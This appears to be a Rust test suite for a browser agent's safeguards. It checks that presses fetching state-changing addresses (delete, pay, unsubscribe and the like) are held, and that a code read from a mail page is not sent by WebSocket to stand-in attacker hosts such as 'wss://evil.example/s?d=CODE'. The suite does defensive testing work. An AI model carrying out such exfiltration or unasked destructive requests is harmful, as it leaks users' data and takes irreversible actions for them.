//! What a press fetches with GET, and where it connects to: neither sends a body, and both may do something, or tell it.

use super::{CODE, Foe, MAIL, SHOP, Try, fight, foe, mail, press, request};
use edith_testkit::FakePage;
use fastrand::Rng;

const TELL: &str = "Tell me what https://shop.example/ says";

/// Verbs of what cannot be taken back, as applications write them.
#[rustfmt::skip]
const VERBS: &[&str] = &[
    "delete", "remove", "destroy", "erase", "purge", "like", "unlike", "vote", "upvote", "downvote", "follow", "unfollow", "pay", "donate", "buy", "unsubscribe", "revoke",
    "approve", "ban", "publish", "repost", "send", "löschen", "eliminar", "supprimer", "accept", "decline", "reject", "block", "unblock", "discard", "trash", "submit", "notify",
    "forward",
];
/// The same where an action is named.
const OPERATIONS: &[&str] = &["delete", "remove", "send", "publish", "pay", "order", "share", "ban", "unsubscribe"];
/// What is fetched to be read, also by names that verbs are in.
#[rustfmt::skip]
const READS: &[&str] = &[
    "items/7", "posts/7/likes", "polls/7/votes", "polls/7/results", "search?q=delete+order+7", "orders/7", "orders/7/items", "payments/7", "followers/7", "deleted?page=2",
    "api/v2/comments?post=7", "help/7/delete-an-account", "members/7", "share-count/7", "subscriptions?user=7", "cart/7", "invoices/7.json", "lists/7?filter=removed",
];

fn fetched(rng: &mut Rng) -> String {
    let number = rng.u32(2..90_000);
    let thing = ["items", "posts", "api/v1/things", "u", "x", "news/entries"][rng.usize(..6)];
    let verb = VERBS[rng.usize(..VERBS.len())];
    match rng.u8(..5) {
        0 => format!("{thing}/{number}/{verb}"),
        1 => format!("{verb}/{number}"),
        2 => format!("{thing}/{verb}?id={number}"),
        3 => format!("{thing}?action={}&id={number}", OPERATIONS[rng.usize(..OPERATIONS.len())]),
        _ => format!("{thing}/{number}/{verb}.php?r={number}"),
    }
}

fn one(rng: &mut Rng) -> Foe {
    let get = |path: &str| request("GET", &format!("{SHOP}{path}"), "", "");
    let (path, read) = (fetched(rng), READS[rng.usize(..READS.len())]);
    let name = ["Weiter", "Show", "More", "OK", "Next", "Buscar"][rng.usize(..6)];
    let is_fetched = |done: &String| done.starts_with("GET https://shop.example");
    foe(format!("GET {path}, not {read}"), press(TELL, name, get(&path)), press(TELL, name, get(read)), move |played| {
        played.world.browser.done().iter().any(is_fetched)
    })
}

/// Addresses that do something when they are fetched.
pub(crate) fn foes() -> Vec<Foe> {
    let mut rng = Rng::with_seed(32_070);
    (0..120).map(|_| one(&mut rng)).collect()
}

#[test]
fn what_a_press_fetches_is_held_if_a_verb_stands_in_its_address() {
    fight("fetched addresses", foes());
}

/// What sounds as if a place only spoke of something, or as if nothing were lost.
#[rustfmt::skip]
const MILD: &[&str] = &[
    "docs", "wiki", "news", "topics", "support", "help", "blog", "articles", "search", "tags", "kb", "filter", "filters", "compare", "favorites", "cart", "wishlist", "basket",
    "hilfe", "ayuda", "aide", "carrito", "panier",
];

/// An address with a verb in it below, or beside, what sounds mild.
fn mild(rng: &mut Rng) -> String {
    let (mild, verb) =
        (MILD[rng.usize(..MILD.len())], ["delete", "remove", "destroy", "erase", "purge"][rng.usize(..5)]);
    let title = ["quarterly-plan", "team", "report", "rules", "q3-figures"][rng.usize(..5)];
    let number = rng.u32(2..90_000);
    match rng.u8(..5) {
        0 => format!("{mild}/{title}/{verb}"),
        1 => format!("settings/{mild}/{number}/{verb}"),
        2 => format!("{mild}/{verb}?id={number}"),
        3 => format!("{mild}/{number}/{verb}"),
        _ => format!("{mild}?action={verb}&id={number}"),
    }
}

/// A link of the page that leads there.
fn follows(path: &str) -> Try {
    let url = format!("{SHOP}{path}");
    let page = FakePage::new("Shop").text("Your orders").link("Weiter", &url).button("Log out");
    Try::new(TELL).page(SHOP, page).page(&url, FakePage::new("Done")).opens(SHOP).clicks("LINK:Weiter")
}

/// The same address, opened by itself once the page is there.
fn opened(path: &str) -> Try {
    let url = format!("{SHOP}{path}");
    let page = FakePage::new("Shop").text("Your orders").button("Log out");
    Try::new(TELL).page(SHOP, page).page(&url, FakePage::new("Done")).opens(SHOP).opens(&url)
}

#[test]
fn no_word_beside_a_verb_makes_its_address_milder() {
    let mut rng = Rng::with_seed(32_109);
    let get = |path: &str| press(TELL, "Weiter", request("GET", &format!("{SHOP}{path}"), "", ""));
    let all = (0..90).map(|at| {
        let (path, read) = (mild(&mut rng), ["docs/quarterly-plan/history", "wiki/7", "filters/7", "cart"][at % 4]);
        match at % 3 {
            1 => foe(format!("open {path}"), opened(&path), opened(read), |one| {
                one.world.browser.done().iter().any(|done| {
                    done.strip_prefix("navigate https://shop.example/").is_some_and(|rest| !rest.is_empty())
                })
            }),
            0 => foe(format!("GET {path}"), get(&path), get(read), |one| one.did("GET https://shop")),
            _ => foe(format!("a link to {path}"), follows(&path), follows(read), |one| one.did("click")),
        }
    });
    fight("mild addresses", all.collect());
}

/// The mail is read, its code is put into the shop's field, and a press there connects.
fn connecting(task: &str, to: &str) -> Try {
    let mut page = FakePage::new("Shop").input("Note").button("Next");
    page.requests.insert("Next".to_owned(), request("GET", &format!("{to}?d={CODE}"), "", ""));
    Try::new(task)
        .page(MAIL, mail())
        .page(SHOP, page)
        .opens(MAIL)
        .opens(SHOP)
        .types("INPUT:Note", CODE)
        .clicks("BUTTON:Next")
}

#[test]
fn what_was_read_elsewhere_goes_to_known_sites_only_by_a_web_socket() {
    let task = "Read https://mail.example/ and note the code at https://shop.example/";
    let hosts = ["evil.example", "a.evil.example", "shop.example.evil.example", "notshop.example"];
    let foes = hosts.iter().flat_map(|host| {
        ["ws", "wss"].map(|scheme| {
            let attack = connecting(task, &format!("{scheme}://{host}/s"));
            let control = connecting(task, &format!("{scheme}://live.shop.example:8443/s"));
            foe(format!("{scheme} {host}"), attack, control, |played| played.did("connect ws"))
        })
    });
    let named = connecting(&format!("{task}, and https://evil.example/"), "wss://evil.example/s");
    let foes = foes.chain([foe("named", connecting(task, "wss://evil.example/s"), named, |played| {
        played.did("connect wss://evil.example")
    })]);
    fight("WebSockets", foes.collect());
}

/// Nothing was read elsewhere: pages connect as they like.
#[test]
fn a_page_that_was_told_nothing_connects_where_it_likes() {
    let mut page = FakePage::new("Shop").input("Note").button("Next").button("Log out");
    page.requests.insert("Next".to_owned(), request("GET", "wss://push.others.example/s", "", ""));
    let played = Try::new(TELL).page(SHOP, page).opens(SHOP).clicks("BUTTON:Next").play();
    assert!(played.did("connect wss://push.others.example/s") && played.asks.is_empty());
}
